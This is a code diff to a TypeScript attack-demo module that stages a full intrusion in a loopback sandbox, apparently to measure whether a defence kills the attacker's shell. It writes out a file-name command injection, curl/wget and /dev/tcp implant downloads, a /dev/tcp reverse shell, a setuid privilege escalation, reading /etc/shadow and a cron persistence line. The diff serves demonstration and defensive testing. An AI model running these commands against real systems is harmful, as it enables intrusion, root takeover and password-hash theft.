@@ -7,17 +7,17 @@ import { DemoError } from './errors.ts';
 import { Sandbox } from './sandbox.ts';
 
 export interface Step {
-  /** ATT&CK tactic */
+  /** ATT&CK tactic. */
   readonly tactic: string;
   readonly text: string;
 }
 
 export interface DemoOutcome {
-  /** the sandbox's name: id of its container */
+  /** Id of the sandbox's container. */
   readonly container: string;
-  /** ms since the epoch at which the last step was ordered */
+  /** Time of the last command, ms since the epoch. */
   readonly lastStepAt: number;
-  /** ms from that step until the attacker lost the shell; null: it lived for `waitMs` */
+  /** Milliseconds from the last command until the attacker lost the shell; null: not within `waitMs`. */
   readonly stoppedAfterMs: number | null;
 }
 
@@ -25,14 +25,14 @@ export interface ScenarioOptions {
   readonly containersDir: string;
   readonly filesDir: string;
   readonly onStep: (step: Step) => void;
-  /** ms between steps. @default 250 */
+  /** Pause between steps, ms. @default 250 */
   readonly pauseMs?: number;
-  /** ms to wait for the response after the last step. @default 5000 */
+  /** How long to wait for the response after the last step, ms. @default 5000 */
   readonly waitMs?: number;
   readonly signal?: AbortSignal;
 }
 
-/** Plays the attack in a sandbox of its own, on loopback, and takes all of it away again. Root only. */
+/** Plays the attack in a new sandbox, on loopback, and removes the sandbox again. Needs root. */
 export async function playDemo(options: ScenarioOptions): Promise<DemoOutcome> {
   await using attacker = await Attacker.listen();
   await using sandbox = new Sandbox({
@@ -50,38 +50,38 @@ export async function playDemo(options: ScenarioOptions): Promise<DemoOutcome> {
   await pause();
 
   onStep({ tactic: 'command-and-control', text: 'the shell fetches an implant into /tmp and runs it' });
-  sandbox.request(`x.png; ${fetchImplant(attacker.port)}; chmod +x /tmp/.x; ${callHome(attacker.port)}`);
-  const shell = await attacker.shell(10_000);
+  sandbox.request(`x.png; ${downloadCommand(attacker.port)}; chmod +x /tmp/.x; ${connectBackCommand(attacker.port)}`);
+  const shell = await attacker.waitForShell(10_000);
 
   onStep({ tactic: 'execution', text: 'the implant connects back: the attacker has a shell' });
-  attacker.say('id');
+  attacker.send('id');
   await pause();
 
   onStep({ tactic: 'privilege-escalation', text: 'a helper with a forgotten set-user-id bit makes the shell root' });
-  attacker.say('exec /opt/shop/backup-helper -p');
+  attacker.send('exec /opt/shop/backup-helper -p');
   await pause();
 
   onStep({ tactic: 'credential-access', text: 'root reads the password hashes' });
-  attacker.say('cat /etc/shadow');
+  attacker.send('cat /etc/shadow');
   await pause();
 
   onStep({ tactic: 'persistence', text: 'root plants a cron job to come back' });
   const lastStepAt = Date.now();
   const started = performance.now();
-  attacker.say("echo '* * * * * root /tmp/.x' > /etc/cron.d/update; while :; do read -t 1 line; done");
+  attacker.send("echo '* * * * * root /tmp/.x' > /etc/cron.d/update; while :; do read -t 1 line; done");
   const stopped = await closedWithin(shell, options.waitMs ?? 5000, signal);
   return { container: sandbox.name, lastStepAt, stoppedAfterMs: stopped ? performance.now() - started : null };
 }
 
-/** curl or wget where there is one, else the shell's own /dev/tcp. */
-function fetchImplant(port: number): string {
+/** Uses curl or wget if installed, else /dev/tcp of bash. */
+function downloadCommand(port: number): string {
   const url = `http://127.0.0.1:${port}/implant`;
   if (existsSync('/usr/bin/curl')) return `curl -s -o /tmp/.x ${url}`;
   if (existsSync('/usr/bin/wget')) return `wget -q -O /tmp/.x ${url}`;
   return `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; echo "GET raw" >&3; cat <&3 >/tmp/.x'`;
 }
 
-function callHome(port: number): string {
+function connectBackCommand(port: number): string {
   return `/tmp/.x -c "exec 5<>/dev/tcp/127.0.0.1/${port}; exec bash <&5 >&5 2>&5" &`;
 }
 
